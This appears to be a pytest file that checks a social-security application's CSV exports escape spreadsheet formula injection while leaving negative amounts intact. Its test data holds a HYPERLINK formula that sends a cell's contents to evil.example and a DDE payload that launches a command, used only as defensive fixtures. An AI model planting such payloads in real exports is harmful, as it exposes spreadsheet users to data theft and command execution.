"""Every CSV the application writes opens in a spreadsheet as data: a text cell starting with = + - @, a
tab or a carriage return gets a single quote in front; numbers (a recovery's -3600.00) stay as they are."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from socsec.actuarial.report import csv_text
from socsec.benefits.payments import death_notice_record, pay_month
from socsec.contributions.models import OrderBatch
from socsec.contributions.orders.selectors import error_report_csv
from socsec.core.csvsafe import csv_cell
from socsec.registry.models import Person
from tests.benefits.test_awards_and_payments import awarded
from tests.world import SYSTEM

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3600.00", "-3600.00"),
        ("+86", "+86"),
        ("1e5", "1e5"),
        ("李娜", "李娜"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
        ("", ""),
    ],
)
def test_a_cell(value, written):
    assert csv_cell(value) == written


def test_the_bank_file_escapes_a_name_and_keeps_a_recovery_negative(world, data_dir):
    Person.objects.filter(pk=world.rider.pk).update(name=EVIL)
    awarded(world, {"grade": 3})
    pay_month(actor=SYSTEM, month="2026-07", today=dt.date(2026, 8, 1))
    death_notice_record(actor=SYSTEM, person_id=world.rider.pk, died_on=dt.date(2026, 6, 20), source="registry")
    august = pay_month(actor=SYSTEM, month="2026-08", today=dt.date(2026, 9, 1))
    rows = list(csv.DictReader(io.StringIO(august.file.read_text())))
    assert [(r["name"], r["kind"], r["amount"]) for r in rows] == [("'" + EVIL, "RECOVERY", "-3600.00")]


def test_the_order_error_report_escapes_what_a_file_sent(world):
    error = {"row": 2, "order_id": "=1+1", "field": "order_id", "code": "x", "message": "@SUM(1) is not an order id"}
    rows = list(csv.reader(io.StringIO(error_report_csv(OrderBatch(errors=[error])))))
    assert rows == [
        ["row", "order_id", "field", "code", "message"],
        ["2", "'=1+1", "order_id", "x", "'@SUM(1) is not an order id"],
    ]


def test_the_pages_csv_escapes_a_description(world):
    from socsec.web.views import _csv_response

    response = _csv_response([["booked_on", "description"], ["2026-01-05", "=1+1"], ["", -12]], "x.csv")
    text = response.content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["booked_on", "description"], ["2026-01-05", "'=1+1"], ["", "-12"]]


def test_the_projection_tables_escape_text_but_not_numbers():
    text = csv_text([{"scenario": "=cmd", "balance": -1.5, "note": None}])
    assert list(csv.reader(io.StringIO(text))) == [["scenario", "balance", "note"], ["'=cmd", "-1.5", ""]]
